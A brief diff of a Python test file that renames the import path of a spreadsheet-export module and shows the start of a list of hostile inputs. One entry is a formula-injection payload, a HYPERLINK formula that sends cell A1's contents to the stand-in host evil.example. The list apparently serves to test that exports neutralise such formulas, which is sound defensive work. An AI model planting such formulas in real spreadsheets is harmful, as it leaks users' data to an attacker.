@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from generator.region.spreadsheets import Sheet, harmless, replacing, write_csv, write_xlsx
+from nastavnik.bank.review.spreadsheets import Sheet, harmless, replacing, write_csv, write_xlsx
 
 NASTY = [
     '=HYPERLINK("http://evil.example/"&A1;"нажми")',
